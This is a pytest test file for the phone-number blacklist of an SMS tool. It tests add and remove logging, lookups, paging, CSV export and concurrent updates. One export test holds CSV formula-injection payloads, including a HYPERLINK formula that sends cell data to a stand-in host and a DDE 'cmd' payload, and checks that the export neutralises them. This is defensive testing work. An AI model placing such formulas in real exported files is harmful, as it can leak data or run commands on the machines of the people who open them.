"""The blacklist: add, remove (always logged), check, list in pages, export to CSV.

Every test runs on SQLite and on PostgreSQL (the ``db`` fixture).
"""

from __future__ import annotations

import codecs
from collections.abc import Callable
from pathlib import Path
from threading import Thread

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from smscope.contacts import blacklist
from smscope.db import Database
from smscope.db.tables import BlacklistEntry, BlacklistLog, Contact, ContactEvent
from smscope.errors import InvalidNumberError, NotFoundError, OutputFileError, UsageError
from tests.contacts.helpers import contacts, e164, mobile, read_csv, run_import, write_rows


def log_of(db: Database) -> list[tuple[str, str, str, str, str]]:
    with db.session() as session:
        return [(r.number, r.action, r.reason, r.source, r.actor)
                for r in session.scalars(select(BlacklistLog).order_by(BlacklistLog.id))]


def state_events(db: Database, number: str) -> list[tuple[str | None, str | None, str]]:
    with db.session() as session:
        return [(e.from_state, e.to_state, e.reason) for e in session.scalars(
            select(ContactEvent).join(Contact, Contact.id == ContactEvent.contact_id)
            .where(Contact.number == number, ContactEvent.kind == "state_changed")
            .order_by(ContactEvent.id))]


def import_numbers(db: Database, tmp_path: Path, *indexes: int) -> None:
    path = write_rows(tmp_path / "c.csv", [["phone"], *[[mobile(i)] for i in indexes]])
    run_import(db, path)


# --------------------------------------------------------------------- add


def test_add_stores_the_number_in_e164_and_logs_the_addition(db: Database) -> None:
    with db.transaction() as session:
        entry, created = blacklist.add(session, mobile(1), reason="STOP received",
                                       source="stop_reply", actor="alice",
                                       default_region="FR", campaign_id=7)
        assert created
        assert (entry.number, entry.reason, entry.source, entry.actor, entry.campaign_id) == (
            e164(1), "STOP received", "stop_reply", "alice", 7)
    assert log_of(db) == [(e164(1), "add", "STOP received", "stop_reply", "alice")]


def test_adding_twice_is_idempotent_and_keeps_the_first_reason(db: Database) -> None:
    with db.transaction() as session:
        first, _ = blacklist.add(session, e164(1), reason="first")
    with db.transaction() as session:
        again, created = blacklist.add(session, mobile(1), reason="second",
                                       default_region="FR")
        assert not created
        assert (again.id, again.reason) == (first.id, "first")
    assert [action for _, action, *_ in log_of(db)] == ["add"]


def test_add_refuses_an_unknown_source(db: Database) -> None:
    with db.transaction() as session, pytest.raises(ValueError, match="source"):
        blacklist.add(session, e164(1), source="carrier-pigeon")


@pytest.mark.parametrize("number", ["+", "00", "abc", "06 12 34 56 78 😀", ""])
def test_add_refuses_what_is_not_a_number(db: Database, number: str) -> None:
    with db.transaction() as session, pytest.raises(InvalidNumberError):
        blacklist.add(session, number, default_region="FR")
    assert log_of(db) == []


def test_add_blacklists_the_existing_contact_and_says_why(db: Database, tmp_path: Path) -> None:
    import_numbers(db, tmp_path, 1, 2)
    with db.transaction() as session:
        blacklist.add(session, e164(1), reason="asked by phone", source="manual", actor="bob")
    found = contacts(db)
    assert found[e164(1)].state == "blacklisted"
    assert found[e164(1)].state_reason == "blacklisted (manual): asked by phone"
    assert found[e164(1)].state_changed_at is not None
    assert found[e164(2)].state == "active"
    assert state_events(db, e164(1)) == [("active", "blacklisted",
                                          "blacklisted (manual): asked by phone")]


def test_contact_imported_after_blacklisting_is_created_blacklisted(db: Database,
                                                                   tmp_path: Path) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(3))
    import_numbers(db, tmp_path, 3, 4)
    found = contacts(db)
    assert (found[e164(3)].state, found[e164(4)].state) == ("blacklisted", "active")


# --------------------------------------------------------------------- remove


def test_remove_is_logged_and_makes_the_contact_active_again(db: Database,
                                                             tmp_path: Path) -> None:
    import_numbers(db, tmp_path, 1)
    with db.transaction() as session:
        blacklist.add(session, e164(1), reason="STOP", source="stop_reply")
    with db.transaction() as session:
        removed = blacklist.remove(session, mobile(1), reason="opted in again", actor="carol",
                                   default_region="FR")
        assert removed.number == e164(1)
    with db.session() as session:
        assert blacklist.check(session, e164(1)) is None
        assert not blacklist.is_blacklisted(session, e164(1))
    assert log_of(db) == [(e164(1), "add", "STOP", "stop_reply", "cli"),
                          (e164(1), "remove", "opted in again", "manual", "carol")]
    contact = contacts(db)[e164(1)]
    assert (contact.state, contact.state_reason) == (
        "active", "removed from the blacklist: opted in again")
    assert [e[:2] for e in state_events(db, e164(1))] == [("active", "blacklisted"),
                                                          ("blacklisted", "active")]


def test_remove_of_a_number_not_on_the_blacklist_is_not_found_and_logs_nothing(
        db: Database) -> None:
    with db.transaction() as session, pytest.raises(NotFoundError, match=r"\+33610000001"):
        blacklist.remove(session, e164(1))
    assert log_of(db) == []


def test_remove_twice_fails_the_second_time(db: Database) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(1))
    with db.transaction() as session:
        blacklist.remove(session, e164(1))
    with db.transaction() as session, pytest.raises(NotFoundError):
        blacklist.remove(session, e164(1))
    assert [action for _, action, *_ in log_of(db)] == ["add", "remove"]


def test_remove_without_contact_only_removes_the_entry(db: Database) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(1))
    with db.transaction() as session:
        blacklist.remove(session, e164(1))
    assert contacts(db) == {}


def test_add_remove_add_again_keeps_the_whole_history(db: Database, tmp_path: Path) -> None:
    import_numbers(db, tmp_path, 1)
    for reason in ("one", "two"):
        with db.transaction() as session:
            blacklist.add(session, e164(1), reason=reason)
        with db.transaction() as session:
            blacklist.remove(session, e164(1), reason=f"undo {reason}")
    with db.transaction() as session:
        blacklist.add(session, e164(1), reason="three")
    with db.session() as session:
        history = blacklist.history(session, mobile(1), default_region="FR")
    assert [(h["action"], h["reason"]) for h in history] == [
        ("add", "one"), ("remove", "undo one"), ("add", "two"), ("remove", "undo two"),
        ("add", "three")]
    assert contacts(db)[e164(1)].state == "blacklisted"


# --------------------------------------------------------------------- check, list


def test_check_finds_the_entry_whatever_the_spelling(db: Database) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(1), reason="r")
    with db.session() as session:
        for spelling in (e164(1), mobile(1), "0033 6 10 00 00 01"):
            found = blacklist.check(session, spelling, default_region="FR")
            assert found is not None and found.reason == "r"
        assert blacklist.check(session, e164(2)) is None


def test_list_entries_pages_through_every_entry_oldest_first(db: Database) -> None:
    with db.transaction() as session:
        for i in range(1, 8):
            blacklist.add(session, e164(i), reason=f"reason {i}")
    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        with db.session() as session:
            page = blacklist.list_entries(session, cursor=cursor, limit=3)
        pages += 1
        assert len(page.items) <= 3
        seen += [item["number"] for item in page.items]
        cursor = page.next_cursor
        if cursor is None:
            break
    assert (pages, seen) == (3, [e164(i) for i in range(1, 8)])
    assert set(page.items[0]) == {"id", "number", "reason", "source", "actor", "campaign_id",
                                  "created_at"}
    assert page.to_json()["next_cursor"] is None


def test_list_entries_with_an_exact_page_has_no_next_cursor(db: Database) -> None:
    with db.transaction() as session:
        for i in range(1, 5):
            blacklist.add(session, e164(i))
    with db.session() as session:
        first = blacklist.list_entries(session, limit=2)
        second = blacklist.list_entries(session, limit=2, cursor=first.next_cursor)
        everything = blacklist.list_entries(session, limit=4)
    assert first.next_cursor is not None
    assert (len(second.items), second.next_cursor) == (2, None)
    assert (len(everything.items), everything.next_cursor) == (4, None)


def test_empty_blacklist_is_one_empty_page(db: Database) -> None:
    with db.session() as session:
        page = blacklist.list_entries(session)
    assert (page.items, page.next_cursor) == ([], None)


def test_list_entries_searches_number_and_reason_case_insensitively(db: Database) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(1), reason="Angry customer")
        blacklist.add(session, e164(2), reason="STOP")
        blacklist.add(session, "+32470123456", reason="")
    with db.session() as session:
        def numbers(search: str) -> list[str]:
            return [i["number"] for i in blacklist.list_entries(session, search=search).items]

        assert numbers("angry") == [e164(1)]
        assert numbers("stop") == [e164(2)]
        assert numbers("+32") == ["+32470123456"]
        assert numbers(" 6100000 ") == [e164(1), e164(2)]
        assert numbers("nothing like this") == []


@pytest.mark.parametrize("limit", [0, -1, 1001])
def test_list_entries_limit_must_be_between_1_and_1000(db: Database, limit: int) -> None:
    with db.session() as session, pytest.raises(UsageError, match="between 1 and 1000"):
        blacklist.list_entries(session, limit=limit)


def test_list_entries_accepts_the_largest_limit(db: Database) -> None:
    with db.session() as session:
        assert blacklist.list_entries(session, limit=1000).items == []


@pytest.mark.parametrize("cursor", ["garbage!", "aWQ6eA", "eDox"])
def test_mangled_cursor_is_a_usage_error(db: Database, cursor: str) -> None:
    with db.session() as session, pytest.raises(UsageError, match="invalid cursor"):
        blacklist.list_entries(session, cursor=cursor)


# --------------------------------------------------------------------- export


def test_export_writes_bom_header_raw_numbers_and_neutralised_cells(db: Database,
                                                                    tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 more", "-2", "@SUM(A1)",
               "\tTab", "\rCR", "plain, with comma", "multi\nline", ""]
    with db.transaction() as session:
        for i, reason in enumerate(hostile, start=1):
            blacklist.add(session, e164(i), reason=reason, actor="=cmd|' /C calc'!A0")
    target = tmp_path / "blacklist.csv"
    with db.session() as session:
        count = blacklist.export_csv(session, target)
    assert count == len(hostile)
    bom, rows = read_csv(target)
    assert bom == codecs.BOM_UTF8
    assert rows[0] == ["number", "reason", "source", "actor", "created_at"]
    assert [row[0] for row in rows[1:]] == [e164(i) for i in range(1, len(hostile) + 1)]
    assert [row[1] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1 more", "'-2", "'@SUM(A1)",
        "'\tTab", "'\rCR", "plain, with comma", "multi\nline", ""]
    assert {row[2] for row in rows[1:]} == {"manual"}
    assert {row[3] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    assert all(row[4] for row in rows[1:])
    assert target.read_bytes().startswith(codecs.BOM_UTF8 + b"number,reason,")


def test_export_of_an_empty_blacklist_is_just_the_header(db: Database, tmp_path: Path) -> None:
    with db.session() as session:
        assert blacklist.export_csv(session, tmp_path / "b.csv") == 0
    assert read_csv(tmp_path / "b.csv")[1] == [["number", "reason", "source", "actor",
                                                "created_at"]]


def test_export_uses_the_given_time_format(db: Database, tmp_path: Path) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(1))
    with db.session() as session:
        blacklist.export_csv(session, tmp_path / "b.csv", format_time=lambda t: "-when-")
    # A formatted time is a cell like any other: neutralised if it looks like a formula.
    assert read_csv(tmp_path / "b.csv")[1][1][4] == "'-when-"


def test_export_to_an_unwritable_path_is_a_clear_error(db: Database, tmp_path: Path) -> None:
    with db.session() as session, pytest.raises(OutputFileError, match="cannot write"):
        blacklist.export_csv(session, tmp_path / "missing" / "b.csv")


def test_export_reads_the_blacklist_in_batches(db: Database) -> None:
    with db.transaction() as session:
        for i in range(1, 8):
            blacklist.add(session, e164(i))
    with db.session() as session:
        numbers = [e.number for e in blacklist.iter_entries(session, batch=3)]
    assert numbers == [e164(i) for i in range(1, 8)]


def test_entries_are_unique_per_number(db: Database) -> None:
    with db.transaction() as session:
        blacklist.add(session, e164(1))
        blacklist.add(session, mobile(1), default_region="FR")
        blacklist.add(session, "+33 6 10 00 00 01")
    with db.session() as session:
        assert list(session.scalars(select(BlacklistEntry.number))) == [e164(1)]


# --------------------------------------------------------------------- concurrency


def _in_thread(db: Database, action: Callable[[Session], object]) -> tuple[Thread, list[object]]:
    outcome: list[object] = []

    def run() -> None:
        try:
            with db.transaction() as session:
                outcome.append(action(session))
        except Exception as exc:  # reported to the test
            outcome.append(exc)

    thread = Thread(target=run, daemon=True)
    thread.start()
    return thread, outcome


def test_concurrent_adds_of_one_number_create_and_log_it_once(pg_db: Database) -> None:
    with pg_db.transaction() as session:
        blacklist.add(session, e164(1), reason="first")
        # The other transaction cannot see this entry yet: it waits on the unique number.
        thread, outcome = _in_thread(
            pg_db, lambda s: blacklist.add(s, e164(1), reason="second")[1])
        thread.join(0.5)
    thread.join(10)
    assert outcome == [False]
    assert log_of(pg_db) == [(e164(1), "add", "first", "manual", "cli")]


def test_concurrent_removes_of_one_number_remove_and_log_it_once(pg_db: Database) -> None:
    with pg_db.transaction() as session:
        blacklist.add(session, e164(1))
    with pg_db.transaction() as session:
        blacklist.remove(session, e164(1), reason="first")
        thread, outcome = _in_thread(
            pg_db, lambda s: blacklist.remove(s, e164(1), reason="second"))
        thread.join(0.5)
    thread.join(10)
    assert len(outcome) == 1 and isinstance(outcome[0], NotFoundError)
    assert [(action, reason) for _, action, reason, *_ in log_of(pg_db)] == [
        ("add", ""), ("remove", "first")]
